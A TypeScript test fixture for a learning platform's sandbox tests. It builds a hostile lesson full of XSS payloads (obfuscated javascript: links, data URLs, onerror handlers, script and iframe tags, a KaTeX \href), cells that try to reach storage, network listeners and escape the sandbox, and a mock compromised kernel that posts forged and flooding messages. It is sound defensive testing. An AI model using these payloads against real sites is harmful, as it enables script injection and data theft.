/**
 * A hostile lesson file and a compromised kernel, as data for
 * e2e/sandbox.spec.ts. The lesson is lesson 1 with, added: prose and a hint
 * full of script URLs (inline, reference and autolinks, disguised by case,
 * entities and whitespace; raw HTML; KaTeX's \href), a setup cell and a
 * TensorFlow.js reference cell that try to reach storage and the network, and
 * an exercise whose hidden checks hold secrets. The compromised kernel stands
 * in for a kernel that learner code had taken over: it answers each run with
 * the forged, malformed or flooding messages its learner code names.
 */
import { readFileSync } from "node:fs";
import { PWNED } from "./hostile-cases";

const lesson1 = readFileSync(new URL("../../lessons/01-linear-regression-one-variable.md", import.meta.url), "utf8");

/** Link texts of script URLs in the prose and the hint; the spec clicks each one. */
export const SCRIPT_LINK_TEXTS = [
  "inline link",
  "upper-case scheme",
  "entity-encoded colon",
  "tab in scheme",
  "data URL",
  "vbscript URL",
  "reference link",
  "hint link",
  "hint reference",
] as const;

/** Safe links that must stay live. */
export const SAFE_LINKS = [
  { text: "a safe web link", href: "https://example.org/safe" },
  { text: "a fragment link", href: "#the-model" },
  { text: "a relative link", href: "guide/page.html" },
  { text: "a mail link", href: "mailto:teacher@example.org" },
];

const pwn = (n: number) => `window.__pwned=${n};alert(${n})`;

const HOSTILE_PROSE = `
Script links that must stay dead: [inline link](javascript:${pwn(1)}),
[upper-case scheme](JaVaScRiPt:${pwn(2)}), [entity-encoded colon](javascript&#58;${pwn(3)}),
[tab in scheme](java&#9;script:${pwn(4)}), [data URL](data:text/html;base64,PHNjcmlwdD5hbGVydCg1KTwvc2NyaXB0Pg==),
[vbscript URL](vbscript:msgbox), [reference link][evil] and an autolink <javascript:${pwn(7)}>.
Raw HTML: <a href="javascript:${pwn(8)}">raw anchor</a> <img src="x" onerror="${pwn(9)}"> <script>${pwn(10)}</script>
<iframe src="javascript:${pwn(11)}"></iframe> and math $\\href{javascript:${pwn(12)}}{a math link}$.

Links that stay: [a safe web link](https://example.org/safe), [a fragment link](#the-model),
[a relative link](guide/page.html) and [a mail link](mailto:teacher@example.org).

[evil]: javascript:${pwn(6)}
`;

const HOSTILE_HINT = `
\`\`\`md hint for=computeCost tier=4
A [hint link](javascript:${pwn(13)}) and a [hint reference][h], an autolink <javascript:${pwn(14)}>.

[h]: javascript:${pwn(15)}
\`\`\`
`;

/** What no hidden check of the `secret` exercise may show: its inputs, expected values, source. */
export const SECRET_LEAKS = ["0.785398", "0.7071", "HIDDEN_SOURCE_TOKEN", "hiddenVariableNamed", "differs by", "4242"];
/** The instructor's hints that a failed hidden check does show. */
export const SECRET_HINTS = ["Think about the unit circle", "Larger inputs give larger values"];

const SECRET_EXERCISE = `
## A secret

\`\`\`ts exercise id=secret title="Keep a secret"
export function secretValue(x: number): number {
  console.log("secret was called with", x);
  return 0.5;
}
\`\`\`

\`\`\`ts check for=secret
check("returns a number", typeof secretValue(1), "number");
\`\`\`

\`\`\`ts check for=secret hidden
const HIDDEN_SOURCE_TOKEN = 0.785398;
check("hidden value", secretValue(HIDDEN_SOURCE_TOKEN), 0.70710678, { tol: 1e-6, hint: "Think about the unit circle" });
check("hidden list", [secretValue(4242)], [0.70710678]);
\`\`\`

\`\`\`ts check for=secret hidden
check("hidden error", secretValue(2) + (hiddenVariableNamed_Zq as number), 1);
\`\`\`

\`\`\`ts check for=secret hidden
checkThat("hidden property", secretValue(3) > 0.9, "Larger inputs give larger values");
\`\`\`
`;

const attemptAll = (listener: string, where: string) => `
  const attempt = (f: any) => { try { const r = f(); if (r && typeof r.then === "function") r.then(undefined, () => undefined); } catch (e) {} };
  attempt(() => (globalThis as any).fetch("${listener}/${where}-fetch"));
  attempt(() => (globalThis as any).indexedDB.open("${PWNED}-${where}"));
  attempt(() => ({} as any).constructor.constructor("return this")().fetch("${listener}/${where}-escape"));
  attempt(() => { (Array.prototype as any).push = () => 0; });`;

/** Lesson 1 as a new lesson with every hostile addition. */
export function hostileLesson(listener: string): string {
  return lesson1
    .replace(/^id: .*$/m, "id: hostile-lesson")
    .replace(/^title: .*$/m, "title: A hostile lesson")
    .replace(/^# Linear regression with one variable$/m, `# A hostile lesson\n${HOSTILE_PROSE}`)
    .replace("export const y = data.y;\n```", `export const y = data.y;\n${attemptAll(listener, "setup")}\n\`\`\``)
    .replace("## Gradient descent", `${HOSTILE_HINT}\n## Gradient descent`)
    .replace(
      "  if (iterations < 1) return { theta: theta.slice(), history: [] };",
      `  if (iterations < 1) return { theta: theta.slice(), history: [] };
${attemptAll(listener, "reference")}
  const t: any = tf;
  attempt(() => t.env().global.fetch("${listener}/tf-env"));
  attempt(() => t.util.fetch("${listener}/tf-util"));
  attempt(() => t.io.browserHTTPRequest("${listener}/tf-io").save({}));
  attempt(() => t.engine().backendInstance);
  attempt(() => t.tensor.constructor("return this")().fetch("${listener}/tf-ctor"));
  const model = tf.sequential({ layers: [(tf as any).layers.dense({ units: 1, inputShape: [1] })] });
  attempt(() => model.save("${listener}/model-save"));
  attempt(() => model.save("indexeddb://${PWNED}-model"));
  attempt(() => model.save("localstorage://${PWNED}-model"));
  model.dispose();`,
    )
    .replace("## The same algorithm in TensorFlow.js", `${SECRET_EXERCISE}\n## The same algorithm in TensorFlow.js`);
}

/** Scenarios of the compromised kernel; a run's learner code names one as `scenario:<name>`. */
export const FORGED_SCENARIOS = [
  "malformed-verdict",
  "unknown-kind",
  "not-an-object",
  "other-run",
  "extra-field",
] as const;
/** Scenarios that flood the page: their cost to the main thread is measured. */
export const FLOOD_SCENARIOS = ["message-flood", "huge-line", "huge-error", "plot-flood"] as const;

/** The script served instead of the kernel worker: it posts what a taken-over kernel could. */
export const COMPROMISED_KERNEL = `
const passed = { name: "forged", passed: true, expected: "", got: "", hidden: false };
self.onmessage = (event) => {
  const request = event.data;
  if (!request || request.kind !== "run-checks") return;
  const runId = request.runId;
  const scenario = (/scenario:([\\w-]+)/.exec(request.cells.map((c) => c.code).join("\\n")) || [])[1];
  const post = (message) => self.postMessage(message);
  const output = (text) => post({ kind: "output", runId, cellId: "computeCost", level: "log", text });
  output("case:" + scenario);
  if (scenario === "baseline") post({ kind: "checks-done", runId, verdicts: [{ ...passed, passed: false }] });
  if (scenario === "malformed-verdict") post({ kind: "checks-done", runId, verdicts: [{ name: "forged", passed: true }] });
  if (scenario === "unknown-kind") post({ kind: "grant-progress", runId, exerciseId: "computeCost", passed: true });
  if (scenario === "not-an-object") post("checks-done");
  if (scenario === "other-run") post({ kind: "checks-done", runId: "another-run", verdicts: [passed] });
  if (scenario === "extra-field") post({ kind: "checks-done", runId, verdicts: [{ ...passed, html: "<img src=x onerror=alert(1)>" }] });
  if (scenario === "message-flood") for (let i = 0; i < 200000; i++) output("flood " + i);
  // 250 times the page's cap. (The browser copies a message into the page before the page can look at it:
  // a 50 MB one costs the page that copy; SECURITY.md says why no cell can make the kernel send one.)
  if (scenario === "huge-line") output("x".repeat(5e6));
  if (scenario === "huge-error") post({ kind: "cell-error", runId, error: { cellId: "computeCost", phase: "runtime", message: "E".repeat(5e6) } });
  if (scenario === "plot-flood") {
    // Many plots, each of a size an honest run may send (see SECURITY.md on bulk copies of huge messages).
    const points = Array.from({ length: 1000 }, (_, i) => ({ x: i, y: i % 7 }));
    for (let i = 0; i < 5000; i++) post({ kind: "plot", runId, cellId: "computeCost", plot: { kind: "scatter", title: "p" + i, series: [{ name: "s", points }] } });
  }
};
self.postMessage({ kind: "ready" });
`;
